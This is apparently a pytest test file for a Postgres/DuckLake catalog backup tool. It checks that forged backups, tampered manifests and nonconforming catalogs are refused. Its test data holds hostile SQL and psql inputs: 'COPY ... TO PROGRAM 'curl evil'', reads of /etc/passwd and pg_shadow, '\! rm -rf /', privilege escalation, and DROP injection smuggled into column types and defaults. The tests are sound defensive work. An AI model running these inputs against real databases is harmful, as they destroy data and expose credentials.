"""What verification finds: forged backups with all digests right, and catalogs that aren't as they should be."""

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from support.backups import (
    HEADER,
    METADATA,
    SNAPSHOT,
    Json,
    assemble,
    catalog,
    finish,
    forge,
    row,
    small,
    take_apart,
    write_backup,
)

from dlbackup.backupfile.backup import VERIFIER, Backup, VerifiedBackup
from dlbackup.backupfile.prover import prove
from dlbackup.backupfile.reader import BackupReader
from dlbackup.errors import BackupError, Corrupt, NotVerified, StorageError
from dlbackup.lake import spec
from dlbackup.runtime.progress import Event
from dlbackup.stores.folder import local
from dlbackup.tables.definition import Column, Constraint, Grant, Index, Table
from dlbackup.verbs.verify import verify


def refusal(path: Path) -> str:
    """Return the one finding of a backup that is refused, which any reader of it meets too."""
    report = verify(path)
    assert not report.ok
    assert [finding.severity for finding in report.findings] == ["error"]
    with pytest.raises(BackupError), BackupReader(local(path)) as reader:
        list(reader.scan())
    (finding,) = report.findings
    assert finding.rule in ("unsafe-statement", "corrupt", "unknown-format")
    assert finding.message
    assert len(finding.message) < 600
    return f"{finding.rule}: {finding.message}"


def test_forging_nothing_changes_nothing(backup: Path) -> None:
    """The forger makes the same file again, so that what the tests find is what they changed."""
    before = backup.read_bytes()

    forge(backup)
    assert backup.read_bytes() == before
    forge(backup, text=lambda text: text.replace(b"s3://lake", b"s3://LAKE"))
    assert backup.read_bytes() != before
    assert verify(backup).ok


SMUGGLED = (
    b"DROP TABLE users;\n",
    b"DROP SCHEMA public CASCADE;\n",
    b"COPY ducklake_metadata TO PROGRAM 'curl evil';\n",
    b"COPY ducklake_metadata FROM '/etc/passwd';\n",
    b"SELECT pg_read_file('/etc/passwd');\n",
    b"SELECT 1;\n",
    b"DO $$BEGIN END$$;\n",
    b'CREATE TABLE "other" (\n    "a" text\n);\n',
    b'CREATE TABLE "ducklake_more" (\n    "a" text\n);\n',
    b'CREATE TABLE "ducklake_metadata" (\n    "a" text\n);\n',
    b'INSERT INTO "users" ("a") VALUES (\n\'x\'\n);\n',
    b'INSERT INTO "ducklake_snapshot" ("snapshot_id") VALUES (\n7\n);\n',
    b"UPDATE ducklake_metadata SET value = '';\n",
    b"DELETE FROM ducklake_snapshot;\n",
    b"TRUNCATE ducklake_snapshot;\n",
    b"ALTER TABLE ducklake_snapshot DROP CONSTRAINT ducklake_snapshot_pkey;\n",
    b"ALTER ROLE bob SUPERUSER;\n",
    b'GRANT SELECT ON TABLE "users" TO PUBLIC;\n',
    b'GRANT ALL ON TABLE "ducklake_metadata" TO PUBLIC;\n',
    b"SET standard_conforming_strings = off;\n",
    b"SET ROLE postgres;\n",
    b"COMMIT;\n",
    b"ROLLBACK;\n",
    b"BEGIN;\n",
    b"\\! rm -rf /\n",
    b"\\i /etc/passwd\n",
    b"\\copy ducklake_metadata to program 'curl evil'\n",
    b"\\gexec\n",
    b"-- a comment\n",
    b"/* a comment */\n",
    b"\n",
    b";\n",
    b" ",
    b"\0",
)
PLACES = (b"SET client_encoding", b"BEGIN;", b"CREATE TABLE", b"INSERT INTO", b"COMMENT ON", b"COMMIT;")


@pytest.mark.parametrize("smuggled", SMUGGLED)
def test_statements_between_statements_are_refused(backup: Path, smuggled: bytes) -> None:
    """Nothing that dlbackup would not have written passes before, between or after its statements."""
    (text,), manifest = take_apart(backup)
    for place in (*(text.index(beginning) for beginning in PLACES), 0, len(text)):
        backup.write_bytes(assemble([text[:place] + smuggled + text[place:]], manifest))
        refusal(backup)
    backup.write_bytes(assemble([text, smuggled], manifest))
    refusal(backup)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (b"'s3://lake/),('", b"pg_read_file('/etc/passwd')"),
        (b"'s3://lake/),('", b"(select passwd from pg_shadow limit 1)"),
        (b"'s3://lake/),('", b"E's3://lake\\n'"),
        (b"'s3://lake/),('", b"$$s3://lake$$"),
        (b"'s3://lake/),('", b"'s3://' || 'lake'"),
        (b"'s3://lake/),('", b"'s3://lake'::text"),
        (b"'s3://lake/),('", b"'s3://lake' -- x"),
        (b"'s3://lake/),('", b"s3"),
        (b"'s3://lake/),('", b"7"),
        (b"'s3://lake/),('", b"'x'),((select 1),'y'"),
        (b"0,'2026", b"pg_sleep(1),'2026"),
        (b"0,'2026", b"nextval('s'),'2026"),
        (b"0,'2026", b"'0','2026"),
        (b"0,'2026", b"1+1,'2026"),
        (b"0,'2026", b"0,0,'2026"),
        (b"0,'2026", b"'2026"),
        (b"\n),(\n", b"\n), (\n"),
        (b"\n),(\n", b"\n) , evil(\n"),
        (b"NULL\n);\n", b"NULL\n) ON CONFLICT DO NOTHING;\n"),
        (b"NULL\n);\n", b"NULL\n) RETURNING pg_sleep(1);\n"),
        (b"NULL\n);\n", b"NULL\n);DROP TABLE x;\n"),
        (b'INSERT INTO "ducklake_metadata"', b'INSERT INTO "users"'),
        (b'INSERT INTO "ducklake_metadata"', b'INSERT INTO "evil"."ducklake_metadata"'),
        (b'INSERT INTO "ducklake_metadata"', b"INSERT INTO ducklake_metadata"),
        (b'("key", "value", "scope", "scope_id") VALUES', b'("value", "key", "scope", "scope_id") VALUES'),
        (b" VALUES (", b" OVERRIDING SYSTEM VALUE VALUES ("),
        (b'"snapshot_time" timestamp with time zone', b'"snapshot_time" timestamp with time zone DEFAULT now()'),
        (b"PRIMARY KEY (snapshot_id)", b"CHECK (pg_sleep(1) IS NULL)"),
        (b"    CONSTRAINT", b"    -- x\n    CONSTRAINT"),
        (b'CREATE TABLE "ducklake_snapshot"', b'CREATE TEMP TABLE "ducklake_snapshot"'),
        (b'CREATE TABLE "ducklake_snapshot"', b'CREATE TABLE IF NOT EXISTS "ducklake_snapshot"'),
        (b"IS 'it''s the head'", b"IS E'it\\'s the head'"),
        (b"IS 'it''s the head'", b"IS 'it''s another head'"),
        (b"SET datestyle = 'ISO, YMD'", b"SET datestyle = 'ISO, DMY'"),
        (b"SET standard_conforming_strings = on", b"SET standard_conforming_strings = off"),
        (b"-- dlbackup 1\n", b"-- dlbackup 2\n"),
        (b'"database":"lake"', b'"database":"lale"'),
        (b"BEGIN;\n", b""),
        (b"COMMIT;\n", b""),
        (b"COMMIT;\n", b"ROLLBACK;\n"),
    ],
)
def test_changed_statements_are_refused(backup: Path, before: bytes, after: bytes) -> None:
    """A statement or row that was changed is refused, though every size and digest fits the change."""
    (text,), _ = take_apart(backup)
    assert before in text

    forge(backup, text=lambda text: text.replace(before, after, 1))
    refusal(backup)


EVIL_TABLES: dict[str, Table] = {
    "type breaks out": replace(SNAPSHOT, columns=(Column(name="a", type="bigint); DROP TABLE x; --"),)),
    "type is a sequence": replace(SNAPSHOT, columns=(Column(name="a", type="serial not null"),)),
    "type of another schema": replace(SNAPSHOT, columns=(Column(name="a", type="evil.type"),)),
    "default calls": replace(SNAPSHOT, columns=(Column(name="a", type="text", default="pg_read_file('/etc/passwd')"),)),
    "default from a sequence": replace(
        SNAPSHOT, columns=(Column(name="a", type="bigint", default="nextval('s'::regclass)"),)
    ),
    "default is a subquery": replace(SNAPSHOT, columns=(Column(name="a", type="text", default="(SELECT 1)"),)),
    "default with a comment": replace(SNAPSHOT, columns=(Column(name="a", type="text", default="'x' /* y */"),)),
    "default in dollars": replace(SNAPSHOT, columns=(Column(name="a", type="text", default="$$x$$"),)),
    "default with escapes": replace(SNAPSHOT, columns=(Column(name="a", type="text", default="E'\\''"),)),
    "default ends the statement": replace(
        SNAPSHOT, columns=(Column(name="a", type="text", default="1); DROP TABLE x; --"),)
    ),
    "default runs psql": replace(SNAPSHOT, columns=(Column(name="a", type="text", default="1\n\\! rm"),)),
    "check calls": replace(SNAPSHOT, constraints=(Constraint("c", "CHECK (pg_sleep(1) IS NULL)"),)),
    "check selects": replace(SNAPSHOT, constraints=(Constraint("c", "CHECK ((SELECT true FROM x))"),)),
    "check calls by a dot": replace(SNAPSHOT, constraints=(Constraint("c", "CHECK (ducklake_snapshot.evil)"),)),
    "foreign key": replace(SNAPSHOT, constraints=(Constraint("c", "FOREIGN KEY (snapshot_id) REFERENCES x (y)"),)),
    "exclusion": replace(SNAPSHOT, constraints=(Constraint("c", "EXCLUDE USING gist (snapshot_id WITH =)"),)),
    "inherits": replace(SNAPSHOT, constraints=(Constraint("c", 'CHECK (true)) INHERITS ("x"'),)),
    "index calls": replace(SNAPSHOT, indexes=(Index(name="i", definition="USING btree (pg_sleep(1))"),)),
    "index breaks out": replace(
        SNAPSHOT, indexes=(Index(name="i", definition="USING btree (snapshot_id); DROP TABLE x"),)
    ),
    "index selects": replace(
        SNAPSHOT, indexes=(Index(name="i", definition="USING btree (snapshot_id) WHERE (SELECT true)"),)
    ),
    "identity breaks out": replace(SNAPSHOT, replica_identity="full; DROP TABLE x"),
    "option breaks out": replace(SNAPSHOT, options=(("fillfactor = 1); DROP TABLE x; --", "1"),)),
    "grant of something else": replace(SNAPSHOT, grants=(Grant("bob", ("SELECT ON TABLE x TO y; GRANT SELECT",)),)),
    "grant of all": replace(SNAPSHOT, columns=(Column(name="a", type="text", grants=(Grant("bob", ("ALL",)),)),)),
    "table of others": replace(SNAPSHOT, name="users"),
    "table of the server": replace(SNAPSHOT, name="pg_authid"),
    "no columns": replace(SNAPSHOT, columns=(), constraints=()),
    "column without a name": replace(SNAPSHOT, columns=(Column(name="", type="text"),)),
    "NUL in a comment": replace(SNAPSHOT, comment="a\0b"),
    "too deep": replace(SNAPSHOT, columns=(Column(name="a", type="text", default="(" * 3000 + "1" + ")" * 3000),)),
    "slow to refuse": replace(SNAPSHOT, columns=(Column(name="a", type="text", default="a" * 5000 + "$"),)),
}


@pytest.mark.parametrize("table", EVIL_TABLES.values(), ids=EVIL_TABLES)
def test_definitions_that_would_do_more_are_refused(tmp_path: Path, table: Table) -> None:
    """A manifest may say what it likes: definitions that would run code or touch other tables are refused."""
    path = tmp_path / "backup"
    write_backup(path, [(METADATA, [row("version", "9.9", None, None)]), (table, [])])

    assert refusal(path).startswith("unsafe-statement: ")


def set_in(value: object, *keys: str | int) -> Callable[[Json], object]:
    def change(manifest: Json) -> None:
        place = manifest
        for key in keys[:-1]:
            place = place[key]  # type: ignore[index]
        place[keys[-1]] = value  # type: ignore[index]

    return change


MANIFESTS: dict[str, Callable[[Json], object]] = {
    "an unknown key in a source": set_in(1, "header", "source", "more"),
    "an unknown key in a table": set_in("x", "tables", 0, "table", "trigger"),
    "a default value written out": set_in(None, "tables", 0, "table", "comment"),
    "no tables": set_in([], "tables"),
    "no list of tables": set_in({}, "tables"),
    "fewer tables": lambda manifest: manifest["tables"].pop(),
    "a table twice": lambda manifest: manifest["tables"].append(manifest["tables"][0]),
    "tables in another order": lambda manifest: manifest["tables"].reverse(),
    "another table's name": set_in("ducklake_other", "tables", 0, "table", "name"),
    "a kind that it is not": set_in("inlined-data", "tables", 0, "kind"),
    "another number of rows": set_in(3, "tables", 0, "rows"),
    "rows as text": set_in("2", "tables", 0, "rows"),
    "rows as true": set_in(True, "tables", 0, "rows"),
    "rows below none": set_in(-2, "tables", 0, "rows"),
    "half a row": set_in(2.5, "tables", 0, "rows"),
    "another digest": set_in("0" * 16, "tables", 0, "digest"),
    "a digest that is none": set_in("0x00000000000000", "tables", 0, "digest"),
    "another first frame": set_in(1, "tables", 0, "first_frame"),
    "another last frame": set_in(1, "tables", 0, "last_frame"),
    "another format": set_in(2, "header", "format"),
    "a format of another kind": set_in(True, "header", "format"),
    "no format": lambda manifest: manifest["header"].pop("format"),
    "no header": lambda manifest: manifest.pop("header"),
    "a header that is none": set_in([], "header"),
    "another version": set_in("1.0", "header", "spec_version"),
    "another snapshot": set_in(2, "header", "snapshot_id"),
    "a snapshot as text": set_in("1", "header", "snapshot_id"),
    "another source": set_in("else", "header", "source", "database"),
    "half a character": set_in("\ud800", "header", "source", "database"),
    "half a character in what was left out": set_in(["\ud800"], "left_out"),
    "half a character in a comment": set_in("\ud800", "tables", 1, "table", "comment"),
    "a comment that is not in the text": set_in("x", "tables", 0, "table", "comment"),
    "an owner that is not in the text": set_in("x", "tables", 0, "table", "owner"),
    "a nested value": set_in([[[[]]]], "tables", 0, "table", "columns"),
    "a large number": set_in(10**400, "tables", 0, "rows"),
    "no number": set_in(float("nan"), "tables", 0, "rows"),
}


@pytest.mark.parametrize("change", MANIFESTS.values(), ids=MANIFESTS)
def test_manifests_that_are_not_ours_are_refused(backup: Path, change: Callable[[Json], object]) -> None:
    """A manifest that differs from what the rest of the file says, in whatever way, is refused."""
    forge(backup, manifest=change)

    refusal(backup)


def test_keys_of_a_later_dlbackup_are_ignored_where_they_lose_nothing(backup: Path) -> None:
    """In the header, in the manifest itself and in its entries."""
    (text,), manifest = take_apart(backup)
    for place in (manifest, manifest["header"], manifest["tables"][0]):
        place["later"] = {"what": ["nobody", 4]}
    header = json.dumps(manifest["header"], ensure_ascii=False, separators=(",", ":"), sort_keys=True).encode()
    first, _, rest = text.split(b"\n", 2)
    backup.write_bytes(assemble([b"\n".join([first, b"-- " + header, rest])], manifest))

    report = verify(backup)
    assert report.ok, report.findings

    manifest["tables"][0]["later"] = "another"
    backup.write_bytes(assemble([text], manifest))
    refusal(backup)  # the header in the text lacks the key


def replace_manifest(path: Path, change: Callable[[bytes], bytes]) -> None:
    """Change the manifest's own line, digests made right."""
    (text,), manifest = take_apart(path)
    frame = manifest["frames"][0]
    line = json.dumps(manifest, ensure_ascii=False, separators=(",", ":"), sort_keys=True).encode()
    data = path.read_bytes()[: frame["size"]]
    last = b"-- dlbackup manifest\n-- " + change(line) + b"\n"
    path.write_bytes(finish(data, [(len(data), len(text))], last))


LINES: dict[str, Callable[[bytes], bytes]] = {
    "a key twice": lambda line: b'{"header":1,' + line[1:],
    "keys in another order": lambda line: json.dumps(dict(reversed(json.loads(line).items()))).encode(),
    "blanks": lambda line: line.replace(b":", b": ", 1),
    "escapes": lambda line: line.replace(b'"lake"', b'"l\\u0061ke"', 1),
    "other numbers": lambda line: line.replace(b'"rows":2', b'"rows":2.0', 1),
    "an open end": lambda line: line[:-1],
    "something after it": lambda line: line + b"{}",
    "a second line": lambda line: line + b"\nDROP TABLE x;",
    "a carriage return": lambda line: line + b"\rDROP TABLE x;",
    "very deep": lambda line: b'{"header":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "very long numbers": lambda line: line.replace(b'"rows":2', b'"rows":' + b"2" * 10_000, 1),
    "not UTF-8": lambda line: line.replace(b'"lake"', b'"l\xffke"', 1),
    "UTF-16": lambda line: b"{" + line.decode().encode("utf-16-le"),
    "a list": lambda line: b"{}",
    "nothing": lambda line: b"",
    "NUL": lambda line: line.replace(b'"lake"', b'"l\0ke"', 1),
}


@pytest.mark.parametrize("change", LINES.values(), ids=LINES)
def test_manifests_written_in_another_way_are_refused(backup: Path, change: Callable[[bytes], bytes]) -> None:
    """A manifest has exactly one way to be written; any other is refused, whatever its depth or size."""
    replace_manifest(backup, lambda line: line)
    assert verify(backup).ok

    replace_manifest(backup, change)
    refusal(backup)


def test_a_manifest_of_very_many_tables_is_read(tmp_path: Path) -> None:
    """More than a thousand inlined tables are verified within seconds."""
    path = tmp_path / "backup"
    inlined = [
        (
            Table(
                name=f"ducklake_inlined_delete_{number}",
                columns=tuple(Column(name=name, type="bigint") for name in ("file_id", "row_id", "begin_snapshot")),
            ),
            [row(1, number, 1)],
        )
        for number in range(1500)
    ]
    write_backup(path, [*small(), *inlined])

    report = verify(path)
    assert (report.ok, report.tables, report.rows) == (True, 1502, 1504)
    assert report.seconds < 20


@pytest.mark.parametrize("version", spec.described())
def test_a_catalog_of_each_spec_version_is_good(tmp_path: Path, version: str) -> None:
    """A backup of what an engine of that version makes has no findings at all."""
    path = tmp_path / "backup"
    write_backup(path, catalog(version), replace(HEADER, spec_version=version))

    report = verify(path)
    assert (report.ok, report.findings, report.spec_version, report.snapshot_id) == (True, (), version, 1)
    assert report.tables == len(spec.load(version))
    assert report.rows == 3


def test_an_unknown_version_is_a_warning(backup: Path) -> None:
    """A version without a schema can be verified but for its conformance, which is said."""
    report = verify(backup)

    assert report.ok
    assert [(finding.severity, finding.rule) for finding in report.findings] == [("warning", "unknown-version")]
    assert "9.9" in report.findings[0].message
    assert (report.tables, report.rows, report.path) == (2, 4, str(backup))


def test_what_was_left_out_is_a_warning(tmp_path: Path) -> None:
    """What a backup could not carry is named by verify too."""
    path = tmp_path / "backup"
    write_backup(path, small(), left_out=["view v", "trigger t"])

    report = verify(path)
    assert report.ok
    found = [finding.message for finding in report.findings if finding.rule == "left-out"]
    assert found == ["not in the backup: view v", "not in the backup: trigger t"]


def without(name: str) -> list[tuple[Table, list[bytes]]]:
    return [(table, rows) for table, rows in catalog("1.0") if table.name != name]


def edited(name: str, change: Callable[[Table], Table]) -> list[tuple[Table, list[bytes]]]:
    return [(change(table) if table.name == name else table, rows) for table, rows in catalog("1.0")]


@pytest.mark.parametrize(
    ("contents", "rule"),
    [
        (without("ducklake_tag"), "missing-table"),
        (edited("ducklake_tag", lambda table: replace(table, columns=table.columns[:-1])), "missing-column"),
        (
            edited(
                "ducklake_tag",
                lambda table: replace(table, columns=(*table.columns[:-1], replace(table.columns[-1], type="bigint"))),
            ),
            "wrong-type",
        ),
        (edited("ducklake_snapshot", lambda table: replace(table, constraints=())), "missing-key"),
    ],
    ids=["table", "column", "type", "key"],
)
def test_a_catalog_that_does_not_conform_is_refused(
    tmp_path: Path, contents: list[tuple[Table, list[bytes]]], rule: str
) -> None:
    """A missing table, column or key and a wrong type are errors under their own names."""
    path = tmp_path / "backup"
    write_backup(path, contents, replace(HEADER, spec_version="1.0"))

    report = verify(path)
    assert not report.ok
    assert [finding.rule for finding in report.findings if finding.severity == "error"] == [rule]


@pytest.mark.parametrize(
    ("metadata", "snapshots", "rules"),
    [
        ([], [0, 1], ["one-version"]),
        (["9.9", "9.9"], [0, 1], ["one-version"]),
        (["9.8"], [0, 1], ["one-version"]),
        (["9.9"], [], ["one-head-snapshot"]),
        (["9.9"], [0], ["one-head-snapshot"]),
        (["9.9"], [0, 1, 2], ["one-head-snapshot"]),
        (["9.9"], [0, 1, 1], ["one-head-snapshot"]),
        (["9.9"], [None, 0, 1], ["one-head-snapshot"]),
    ],
)
def test_a_catalog_has_one_version_and_one_head(
    tmp_path: Path, metadata: list[str], snapshots: list[int | None], rules: list[str]
) -> None:
    """No version, several, or another than the header's, and no head snapshot, or a doubled one, are errors."""
    path = tmp_path / "backup"
    rows = [row("version", version, None, None) for version in metadata]
    rows += [row("version", "0.1", "table", 1), row("x", "9.9", None, None)]
    times = [row(number, "2026-03-23 17:50:00+00") for number in snapshots]
    write_backup(path, [(METADATA, rows), (SNAPSHOT, times)])

    report = verify(path)
    assert not report.ok
    assert [finding.rule for finding in report.findings if finding.severity == "error"] == rules


def strange(kind: str, text: bytes, columns: slice) -> list[tuple[Table, list[bytes]]]:
    """Return a catalog whose tables have the right names, but other columns, or other types and values in them."""
    made = []
    for table, _ in catalog("1.0"):
        kept = tuple(Column(name=column.name, type=kind) for column in table.columns[columns])
        made.append((Table(name=table.name, columns=kept), [b",".join([text] * len(kept)) + b"\n"]))
    return made


@pytest.mark.parametrize("version", ["", "9.9", "0.3", "1.0"])
@pytest.mark.parametrize("columns", [slice(None), slice(1), slice(None, None, -1)], ids=["all", "one", "reversed"])
@pytest.mark.parametrize(
    ("kind", "text"),
    [("text", b"'x'"), ("text", b"NULL"), ("boolean", b"true"), ("bigint", b"NULL"), ("bigint", b"-7")],
)
def test_strange_catalogs_get_findings(tmp_path: Path, version: str, columns: slice, kind: str, text: bytes) -> None:
    """Catalogs with columns, types and values that no engine writes end in findings, never in another error."""
    path = tmp_path / "backup"
    write_backup(path, strange(kind, text, columns), replace(HEADER, spec_version=version))

    report = verify(path)
    assert not report.ok
    assert "one-head-snapshot" in {finding.rule for finding in report.findings}


def test_a_file_that_cannot_be_read_is_no_finding(tmp_path: Path) -> None:
    """A missing file says nothing about a backup: it is an error of another kind."""
    with pytest.raises(StorageError):
        verify(tmp_path / "missing")


def written(path: Path, contents: list[tuple[Table, list[bytes]]]) -> Backup:
    manifest = write_backup(path, contents)
    return Backup(
        path=str(path),
        format=1,
        spec_version="9.9",
        snapshot_id=1,
        tables=len(manifest.tables),
        rows=manifest.rows,
        raw_bytes=1,
        file_bytes=path.stat().st_size,
        sha256="",
        seconds=0.0,
        contents=manifest.contents,
    )


def test_proof_is_given_for_what_was_written(tmp_path: Path) -> None:
    """A good backup of what dump wrote becomes a VerifiedBackup with its manifest."""
    backup = written(tmp_path / "backup", small())

    verified, report = prove(backup)
    assert isinstance(verified, VerifiedBackup)
    assert verified.kept_at == str(tmp_path / "backup")
    assert verified.manifest.contents == backup.contents
    assert report.ok
    assert report == replace(verify(backup), seconds=report.seconds)


def test_proof_is_refused_for_another_file(tmp_path: Path) -> None:
    """A good backup of something else in the place of what was written is no proof."""
    path = tmp_path / "backup"
    backup = written(path, small())
    write_backup(path, [(METADATA, [row("version", "9.9", None, None)]), small()[1]])

    assert verify(path).ok
    with pytest.raises(Corrupt, match="not the one that was written"):
        prove(backup)


def test_proof_is_refused_for_a_bad_catalog(tmp_path: Path) -> None:
    """A whole file that holds a catalog with errors is no proof."""
    backup = written(tmp_path / "backup", small()[:1])

    with pytest.raises(NotVerified, match="newest snapshot is None"):
        prove(backup)


def test_proof_is_refused_for_a_damaged_file(tmp_path: Path) -> None:
    """A changed byte between dump and verify is found."""
    path = tmp_path / "backup"
    backup = written(path, small())
    file = bytearray(path.read_bytes())
    file[100] ^= 1
    path.write_bytes(file)

    with pytest.raises(BackupError):
        prove(backup)


def test_progress_is_reported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Verification of many rows tells how far it is, in rows and as a share of the work."""
    monkeypatch.setattr("dlbackup.runtime.progress.REPORT_S", 0.0)
    path = tmp_path / "backup"
    table = Table(name="ducklake_many", columns=(Column(name="n", type="bigint"),))
    write_backup(path, [*small(), (table, [row(1)] * 600_000)])
    events: list[Event] = []

    assert verify(path, on_event=events.append).ok
    assert {(event.stage, event.total) for event in events} == {("verify", 600_004)}
    assert [event.done for event in events] == sorted({event.done for event in events})
    assert all(0 < event.done <= 600_004 and event.rate > 0 for event in events)
    assert all(event.share is not None and 0 < event.share <= 1 for event in events)


def test_only_the_verifier_makes_proofs(backup: Path) -> None:
    """A VerifiedBackup made by hand, with whatever proof, is refused."""
    with BackupReader(local(backup)) as reader:
        seal, manifest = reader.seal, reader.manifest
    for proof in (None, True, object(), VERIFIER.__class__()):
        with pytest.raises(TypeError, match=r"only dlbackup\.verify"):
            VerifiedBackup(local(backup), seal, manifest, proof=proof)
